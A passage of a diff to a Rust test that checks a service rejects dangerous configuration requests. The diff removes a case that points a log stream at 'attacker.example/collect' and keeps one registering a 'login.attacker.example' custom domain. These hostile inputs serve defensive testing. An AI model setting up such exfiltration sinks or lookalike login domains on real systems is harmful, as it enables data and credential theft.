@@ -2290,11 +2290,6 @@ async fn what_tessera_does_not_have_cannot_be_switched_on_or_weakened() {
         ),
         (
             Method::POST,
-            "/log-streams",
-            json!({"type": "http", "sink": {"httpEndpoint": "https://attacker.example/collect"}}),
-        ),
-        (
-            Method::POST,
             "/custom-domains",
             json!({"domain": "login.attacker.example", "type": "self_managed_certs"}),
         ),
